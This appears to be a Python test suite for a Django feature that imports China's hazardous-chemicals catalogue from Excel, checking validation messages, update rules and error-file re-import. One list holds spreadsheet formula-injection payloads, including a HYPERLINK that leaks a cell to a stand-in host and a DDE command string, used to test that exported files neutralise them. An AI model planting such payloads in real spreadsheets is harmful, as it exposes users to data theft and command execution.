"""The 危险化学品目录 from Excel, by an administrator: new entries, entries matched by 目录序号
or by name and CAS number updated, the shipped table 1 rows enriched but never renamed nor
given another Q; every bad cell answered by row and column in Chinese (a bad CAS check
digit, a repeated row, a class nobody uses); all-or-nothing or the valid rows only; the
error file imports again once corrected and never turns a planted string into a formula;
the units holding a changed entry are graded again."""

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from anjian.core import excel_import
from anjian.core.exceptions import NotPermitted
from anjian.core.models import BackgroundJob, JobStatus
from anjian.hazchem import catalogue_import
from anjian.hazchem.choices import CatalogueSource
from anjian.hazchem.models import Chemical
from anjian.hazchem.tests import factories as make
from testsupport import world
from testsupport.hostile_xlsx import text_workbook

pytestmark = pytest.mark.django_db

SPEC = catalogue_import.SPEC
HEADERS = [c.header for c in SPEC.columns if c.importable]
HOSTILE = ['=HYPERLINK("http://x.example/?"&C2,"张三")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)"]


def xlsx(rows: list[dict]) -> BytesIO:
    """A file as the administrator fills the template: the headers, then ``rows`` by key."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    keys = [c.key for c in SPEC.columns if c.importable]
    for row in rows:
        sheet.append([row.get(key) for key in keys])
    buffer = BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def run(rows, by=None, **options):
    return excel_import.import_file(by or world.actor("admin"), SPEC, xlsx(rows), **options)


def row(**overrides) -> dict:
    values = {
        "catalogue_number": 2,
        "name": "乙酸正丁酯",
        "aliases": "醋酸正丁酯",
        "cas": "123-86-4",
        "un_number": "1123",
        "ghs_classes": "易燃液体，类别3；特异性靶器官毒性-一次接触，类别3（麻醉效应）",
        "gb18218_classes": "W5.4",
    }
    values.update(overrides)
    return values


# --- the template -----------------------------------------------------------------------------


def test_the_template_has_the_catalogues_columns_an_example_and_no_formula():
    book = load_workbook(BytesIO(SPEC.template()))
    first = book.worksheets[0]
    assert [c.value for c in first[1]][:6] == [
        "序号",
        "品名",
        "别名",
        "CAS号",
        "UN号",
        "危险性类别",
    ]
    assert {"剧毒", "易制爆", "易制毒", "重点监管", "特别管控", "备注"} <= set(HEADERS)
    assert str(first["A2"].value).startswith("【示例】")
    cells = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


# --- importing --------------------------------------------------------------------------------


def test_new_rows_become_imported_entries():
    result = run([row(), row(catalogue_number=3, name="乙炔银", cas="13092-75-6", note="剧毒")])
    assert (result.created, result.errors) == (2, {})
    butyl = Chemical.objects.get(name="乙酸正丁酯")
    assert butyl.source == CatalogueSource.IMPORTED
    assert (butyl.catalogue_number, butyl.cas, butyl.gb18218_classes) == (2, "123-86-4", ["W5.4"])
    assert Chemical.objects.get(name="乙炔银").highly_toxic


def test_a_shipped_row_is_enriched_never_renamed_nor_given_another_q():
    result = run(
        [
            row(
                catalogue_number=1022,
                name="甲醇",
                aliases="木醇、木精",
                cas="67-56-1",
                un_number="1230",
                ghs_classes="易燃液体，类别2；急性毒性-经口，类别3",
                gb18218_classes="W5.3",
                key_supervised="是",
            )
        ]
    )
    assert result.errors == {}
    methanol = make.shipped("甲醇")
    assert (methanol.catalogue_number, methanol.un_number, methanol.gb18218_classes) == (
        1022,
        "1230",
        ["W5.3"],
    )
    assert methanol.key_supervised and methanol.aliases == ""  # the standard gives no alias
    assert (methanol.table1_row, methanol.source) == (65, CatalogueSource.SHIPPED)
    # Matched again by its 目录序号, under the 目录's own name: still the shipped row.
    again = row(catalogue_number=1022, name="甲醇（工业用）", cas="", aliases="", ghs_classes="")
    result = run([{**again, "gb18218_classes": "W5.3", "un_number": "1230"}])
    assert result.errors == {}
    methanol.refresh_from_db()
    assert methanol.name == "甲醇" and not Chemical.objects.filter(name="甲醇（工业用）").exists()


def test_a_blank_cell_keeps_what_is_there_and_a_filled_one_changes_it():
    run([row(highly_toxic="是")])
    result = run([row(un_number="", aliases="", highly_toxic=None, special_control="是")])
    assert result.errors == {}
    butyl = Chemical.objects.get(name="乙酸正丁酯")
    assert (butyl.un_number, butyl.aliases) == ("1123", "醋酸正丁酯")
    assert butyl.highly_toxic and butyl.special_control
    assert Chemical.objects.filter(name="乙酸正丁酯").count() == 1


def test_bad_rows_are_answered_row_by_row_in_chinese_and_nothing_is_imported():
    result = run(
        [
            row(),
            row(catalogue_number=3, name="坏校验位", cas="67-56-2"),
            row(catalogue_number=2, name="乙酸正丁酯"),
            row(catalogue_number=4, name="坏类别", gb18218_classes="W9"),
            row(catalogue_number=5, name="坏危险性", ghs_classes="很危险"),
            row(catalogue_number=6, name="坏标记", highly_toxic="大概"),
            row(catalogue_number=7, name="甲醇", cas="64-17-5"),
        ]
    )
    assert result.created == 0 and not Chemical.objects.filter(name="乙酸正丁酯").exists()
    assert result.errors[3] == ["【CAS号】CAS号“67-56-2”校验位不正确"]
    assert result.errors[4] == ["【品名】与第2行重复（同一目录条目）"]
    assert result.errors[5] == ["【GB 18218表2类别】GB 18218 表2中没有类别：W9"]
    assert result.errors[6][0].startswith(
        "【危险性类别】“很危险”不是《危险化学品目录》使用的危险性类别"
    )
    assert result.errors[7] == ["【剧毒】“大概”无效，可选：是、否"]
    assert result.errors[8] == ["【CAS号】目录中已有“甲醇”，其CAS号为67-56-1，与本行不一致"]
    assert sorted(result.errors) == [3, 4, 5, 6, 7, 8]


def test_valid_mode_imports_the_good_rows_and_the_error_file_imports_again():
    result = run([row(), row(catalogue_number=3, name="坏校验位", cas="67-56-2")], mode="valid")
    assert result.created == 1 and list(result.errors) == [3]
    report = load_workbook(BytesIO(excel_import.error_file(result))).active
    values = [[c.value for c in line] for line in report.iter_rows()]
    assert values[0][0] == "原行号" and values[0][-1] == "错误说明"
    assert len(values) == 2 and values[1][0] == 3
    # Corrected in Excel and uploaded as it is, the error file imports.
    cas_column = values[0].index("CAS号")
    report.cell(row=2, column=cas_column + 1, value="13092-75-6")
    fixed = BytesIO()
    report.parent.save(fixed)
    fixed.seek(0)
    again = excel_import.import_file(world.actor("admin"), SPEC, fixed)
    assert (again.created, again.errors) == (1, {})
    assert Chemical.objects.get(name="坏校验位").cas == "13092-75-6"


def test_the_error_file_writes_planted_formulas_as_text():
    cells = dict.fromkeys(HEADERS, "")
    cells.update({"品名": HOSTILE[0], "别名": HOSTILE[1], "UN号": HOSTILE[2], "CAS号": HOSTILE[3]})
    upload = BytesIO(text_workbook(HEADERS, [[cells[h] for h in HEADERS]]))
    result = excel_import.import_file(world.actor("admin"), SPEC, upload)
    assert result.errors and result.created == 0
    book = load_workbook(BytesIO(excel_import.error_file(result)))
    found = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line]
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert set(HOSTILE) <= {c.value for c in found if c.data_type == "s"}


def test_the_units_holding_an_entry_the_import_changed_are_graded_again():
    holding = make.unit()
    make.add(holding, make.classed("某溶剂", "W5.3"), "100")  # S 0.1
    result = run([row(catalogue_number=None, name="某溶剂", cas="", gb18218_classes="W5.1")])
    assert result.followup == "已重新辨识 1 个单元，其中 1 个级别变化"
    assert make.fresh(holding).grade == "3"  # S 10, R 2 × 1.5 × 10 = 30


def test_only_an_administrator_imports_the_catalogue():
    with pytest.raises(NotPermitted):
        run([row()], by=world.actor("district_official"))


def test_the_upload_runs_as_a_job_and_reports_row_by_row(
    client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    client = client_for(world.actor("admin"))
    page = client.get(reverse("hazchem:catalogue_import"))
    assert page.status_code == 200
    assert reverse("hazchem:catalogue_import_template") in page.content.decode()
    upload = SimpleUploadedFile("目录.xlsx", xlsx([row(), row(name="", catalogue_number=9)]).read())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("hazchem:catalogue_import"), {"file": upload, "mode": excel_import.MODE_VALID}
        )
    assert response.status_code == 302
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind="hazchem_catalogue_import")
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert job.message == "已导入 1 条危险化学品目录"
    assert job.report["errors"] == [{"row": 3, "name": "", "messages": ["【品名】请填写品名"]}]
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert download.status_code == 200
    template = client.get(reverse("hazchem:catalogue_import_template"))
    assert template.status_code == 200 and template["Content-Disposition"].endswith(".xlsx")
